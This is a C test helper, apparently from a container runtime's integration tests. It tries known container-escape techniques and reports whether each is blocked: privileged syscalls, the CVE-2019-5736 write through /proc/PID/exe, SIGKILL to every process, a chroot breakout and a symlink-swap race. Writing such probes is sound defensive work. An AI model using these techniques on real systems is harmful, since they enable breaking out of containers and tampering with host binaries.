// escape-probe: what a hostile process inside a container tries, reported one finding per line.
// The escape tests (Tests/IntegrationTests/KnownEscapeTests.swift) build it statically and run it
// in containers; every line is "NAME RESULT", RESULT being "ok" or an errno name.
//
//   escape-probe fds                 the descriptors this process inherited beyond stdio
//   escape-probe syscalls            calls a default container must be refused
//   escape-probe scan-exe SECONDS    opens every other process's /proc/PID/exe for that long and
//                                    reports each distinct file reached ("exe DEV:INO write=RESULT")
//   escape-probe signal-all          SIGKILL to every pid but itself and 1 ("pid PID RESULT")
//   escape-probe chroot-escape       the classic escape from a chroot (CAP_SYS_CHROOT is Docker's
//                                    default): chroot into a subdirectory, climb "..", chroot there;
//                                    then lists "/" ("root NAME" lines) to show where it ended
//   escape-probe swap A B SECONDS    exchanges the names A and B (a directory and a symlink) as
//                                    fast as it can, to race a host-side walk of the container's files
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *result(long rc) {
    if (rc >= 0) return "ok";
    switch (errno) {
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ENOSYS: return "ENOSYS";
    case EINVAL: return "EINVAL";
    case ETXTBSY: return "ETXTBSY";
    case ENOENT: return "ENOENT";
    case ESRCH: return "ESRCH";
    case EBUSY: return "EBUSY";
    case EROFS: return "EROFS";
    default: {
        static char other[32];
        snprintf(other, sizeof other, "errno%d", errno);
        return other;
    }
    }
}

static int list_fds(void) {
    DIR *directory = opendir("/proc/self/fd");
    if (!directory) { perror("opendir"); return 1; }
    struct dirent *entry;
    while ((entry = readdir(directory))) {
        int fd = atoi(entry->d_name);
        if (entry->d_name[0] == '.' || fd < 3 || fd == dirfd(directory)) continue;
        char link[64], target[4096];
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t length = readlink(link, target, sizeof target - 1);
        target[length < 0 ? 0 : length] = 0;
        printf("fd %d %s\n", fd, target);
    }
    closedir(directory);
    return 0;
}

// A child to trace: ptrace needs a target that is ours, so a refusal is the policy's, not ESRCH.
static long trace_a_child(void) {
    pid_t child = fork();
    if (child == 0) { pause(); _exit(0); }
    long rc = ptrace(PTRACE_ATTACH, child, NULL, NULL);
    int saved = errno;
    kill(child, SIGKILL);
    waitpid(child, NULL, 0);
    errno = saved;
    return rc;
}

static int try_syscalls(void) {
    printf("keyctl %s\n", result(syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, "escape-probe")));
    printf("unshare-user %s\n", result(unshare(CLONE_NEWUSER)));
    printf("unshare-mount %s\n", result(unshare(CLONE_NEWNS)));
    printf("mount-tmpfs %s\n", result(mount("none", "/tmp", "tmpfs", 0, NULL)));
    printf("mount-proc %s\n", result(mount("proc", "/tmp", "proc", 0, NULL)));
    printf("umount-kcore %s\n", result(umount2("/proc/kcore", MNT_DETACH)));
    printf("remount-sys-rw %s\n", result(mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND, NULL)));
    printf("kexec_load %s\n", result(syscall(SYS_kexec_load, 0, 0, NULL, 0)));
    printf("open_by_handle_at %s\n", result(syscall(SYS_open_by_handle_at, AT_FDCWD, NULL, O_RDONLY)));
    printf("init_module %s\n", result(syscall(SYS_init_module, NULL, 0, "")));
    printf("ptrace-child %s\n", result(trace_a_child()));
    return 0;
}

static int scan_exe(int seconds) {
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    struct { dev_t dev; ino_t ino; } seen[64];
    int seen_count = 0;
    pid_t self = getpid();
    do {
        DIR *proc = opendir("/proc");
        if (!proc) { perror("opendir /proc"); return 1; }
        struct dirent *entry;
        while ((entry = readdir(proc))) {
            pid_t pid = atoi(entry->d_name);
            if (pid <= 0 || pid == self) continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0) continue;
            struct stat status;
            int known = fstat(fd, &status) < 0;
            for (int i = 0; i < seen_count && !known; i++)
                known = seen[i].dev == status.st_dev && seen[i].ino == status.st_ino;
            if (!known && seen_count < 64) {
                seen[seen_count].dev = status.st_dev;
                seen[seen_count].ino = status.st_ino;
                seen_count++;
                // What CVE-2019-5736 did next: reopen the file for writing through the descriptor.
                char reopen[64];
                snprintf(reopen, sizeof reopen, "/proc/self/fd/%d", fd);
                int writable = open(reopen, O_WRONLY | O_CLOEXEC);
                printf("exe %lu:%lu write=%s\n", (unsigned long)status.st_dev, (unsigned long)status.st_ino, result(writable));
                fflush(stdout);
                if (writable >= 0) close(writable);
            }
            close(fd);
        }
        closedir(proc);
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (now.tv_sec - start.tv_sec < seconds);
    return 0;
}

static int signal_all(void) {
    DIR *proc = opendir("/proc");
    if (!proc) { perror("opendir /proc"); return 1; }
    struct dirent *entry;
    while ((entry = readdir(proc))) {
        pid_t pid = atoi(entry->d_name);
        if (pid <= 1 || pid == getpid()) continue;
        printf("pid %d %s\n", pid, result(kill(pid, SIGKILL)));
    }
    closedir(proc);
    return 0;
}

static int swap(const char *first, const char *second, int seconds) {
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    long swaps = 0;
    do {
        for (int i = 0; i < 1000; i++, swaps++)
            if (syscall(SYS_renameat2, AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGE) < 0) { perror("renameat2"); return 1; }
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (now.tv_sec - start.tv_sec < seconds);
    printf("swaps %ld\n", swaps);
    return 0;
}

static int chroot_escape(void) {
    mkdir("/escape-probe-jail", 0700);
    printf("chroot %s\n", result(chroot("/escape-probe-jail")));
    for (int i = 0; i < 64; i++) if (chdir("..") < 0) break;
    printf("chroot-dot %s\n", result(chroot(".")));
    DIR *root = opendir("/");
    if (!root) { perror("opendir /"); return 1; }
    struct dirent *entry;
    while ((entry = readdir(root)))
        if (entry->d_name[0] != '.') printf("root %s\n", entry->d_name);
    closedir(root);
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 2 && strcmp(argv[1], "fds") == 0) return list_fds();
    if (argc >= 2 && strcmp(argv[1], "syscalls") == 0) return try_syscalls();
    if (argc >= 3 && strcmp(argv[1], "scan-exe") == 0) return scan_exe(atoi(argv[2]));
    if (argc >= 2 && strcmp(argv[1], "signal-all") == 0) return signal_all();
    if (argc >= 2 && strcmp(argv[1], "chroot-escape") == 0) return chroot_escape();
    if (argc >= 5 && strcmp(argv[1], "swap") == 0) return swap(argv[2], argv[3], atoi(argv[4]));
    fprintf(stderr, "usage: escape-probe fds | syscalls | scan-exe SECONDS | signal-all | chroot-escape | swap A B SECONDS\n");
    return 2;
}
